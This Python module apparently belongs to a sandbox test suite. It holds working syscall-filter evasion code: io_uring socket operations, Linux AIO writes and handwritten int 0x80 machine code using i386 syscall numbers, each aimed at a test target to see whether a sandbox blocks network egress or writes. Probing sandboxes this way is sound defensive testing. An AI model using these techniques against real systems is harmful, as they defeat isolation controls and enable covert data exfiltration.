"""Attacks around system calls: rings, asynchronous writes, and numbers of another instruction set."""

from __future__ import annotations

import ctypes
import mmap
import os
import socket
import struct

from hybrid_platform_tests.sandbox.attacks.network import NUMBERS, _sockaddr
from hybrid_platform_tests.sandbox.attacks.target import Surroundings

_OP_CONNECT, _OP_SEND, _OP_SOCKET = 16, 26, 45
_AIO_PWRITE = 1
_MAP_32BIT = 0x40


def _call(name: str, *arguments: object) -> int:
    result = ctypes.CDLL(None, use_errno=True).syscall(NUMBERS[name], *arguments)
    if result == -1:
        raise OSError(ctypes.get_errno(), f"{name}: {os.strerror(ctypes.get_errno())}")
    return int(result)


def io_uring(around: Surroundings) -> None:
    """Open, connect and send with only the ring's own system calls."""
    parameters = ctypes.create_string_buffer(120)
    ring = _call("io_uring_setup", 4, parameters)
    # struct io_uring_params: entries at 0 and 4, offsets of the submission ring at 40, of the completion at 80.
    entries, completions = struct.unpack_from("=II", parameters)
    sq_tail, _, _, _, sq_array = (struct.unpack_from("=I", parameters, 40 + at)[0] for at in (4, 8, 12, 16, 24))
    cq_head, cq_tail, cq_entries = (struct.unpack_from("=I", parameters, 80 + at)[0] for at in (0, 4, 20))
    length = max(sq_array + entries * 4, cq_entries + completions * 16)
    rings = mmap.mmap(ring, length, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE, offset=0)
    entry = mmap.mmap(ring, entries * 64, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE, offset=0x1000_0000)

    def submit(operation: int, descriptor: int, offset: int, address: int, size: int) -> int:
        tail = struct.unpack_from("=I", rings, sq_tail)[0]
        index = tail % entries
        request = struct.pack("=BBHiQQI", operation, 0, 0, descriptor, offset, address, size)
        entry[index * 64 : index * 64 + 64] = request.ljust(64, b"\0")
        struct.pack_into("=I", rings, sq_array + index * 4, index)
        struct.pack_into("=I", rings, sq_tail, tail + 1)
        _call("io_uring_enter", ring, 1, 1, 1, None, 0)
        done = struct.unpack_from("=I", rings, cq_tail)[0] - 1
        result = struct.unpack_from("=i", rings, cq_entries + (done % completions) * 16 + 8)[0]
        struct.pack_into("=I", rings, cq_head, done + 1)
        if result < 0:
            raise OSError(-result, f"ring: {os.strerror(-result)}")
        return int(result)

    where = ctypes.create_string_buffer(_sockaddr(around.target.tcp))
    what = ctypes.create_string_buffer(around.target.message)
    endpoint = submit(_OP_SOCKET, socket.AF_INET, socket.SOCK_STREAM, 0, 0)
    submit(_OP_CONNECT, endpoint, 16, ctypes.addressof(where), 0)
    submit(_OP_SEND, endpoint, 0, ctypes.addressof(what), len(around.target.message))


def linux_aio(around: Surroundings) -> None:
    context = ctypes.c_ulong(0)
    _call("io_setup", 1, ctypes.byref(context))
    what = ctypes.create_string_buffer(around.target.message)
    # struct iocb: data, key and flags, operation, priority, descriptor, buffer, length, offset, reserved, flags, resfd
    control = ctypes.create_string_buffer(
        struct.pack(
            "=QIIHhIQQqQII",
            *(0, 0, 0, _AIO_PWRITE, 0, around.target.descriptor),
            *(ctypes.addressof(what), len(around.target.message), 0, 0, 0, 0),
        )
    )
    pointers = (ctypes.c_void_p * 1)(ctypes.addressof(control))
    _call("io_submit", context, 1, pointers)


def i386_numbers(around: Surroundings) -> None:
    """Call through int 0x80 with handwritten machine code, which uses 32-bit numbers for the same calls."""
    own = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS
    code = mmap.mmap(-1, mmap.PAGESIZE, own, mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    # push rbx; mov eax, edi; mov ebx, esi; mov r8d, ecx; mov ecx, edx; mov edx, r8d; int 0x80; pop rbx; cdqe; ret
    code.write(bytes.fromhex("53 89f8 89f3 4189c8 89d1 4489c2 cd80 5b 4898 c3"))
    low = mmap.mmap(-1, mmap.PAGESIZE, own | _MAP_32BIT)
    low.write(_sockaddr(around.target.tcp) + around.target.message)
    at = ctypes.addressof(ctypes.c_char.from_buffer(low))
    call = ctypes.CFUNCTYPE(ctypes.c_long, *[ctypes.c_long] * 4)(ctypes.addressof(ctypes.c_char.from_buffer(code)))

    def checked(result: int) -> int:
        if result < 0:
            raise OSError(-result, os.strerror(-result))
        return result

    endpoint = checked(call(359, socket.AF_INET, socket.SOCK_STREAM, 0))
    checked(call(362, endpoint, at, 16))
    checked(call(4, endpoint, at + 16, len(around.target.message)))
